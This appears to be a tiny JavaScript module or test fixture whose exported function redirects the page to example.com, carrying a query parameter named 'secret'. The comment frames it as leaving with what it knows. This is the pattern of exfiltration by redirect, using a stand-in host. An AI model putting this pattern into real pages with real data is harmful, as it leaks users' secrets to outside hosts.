// Takes its frame elsewhere, with what it knows.
export default function leaves() {
  location.replace("https://example.com/?told=secret");
}
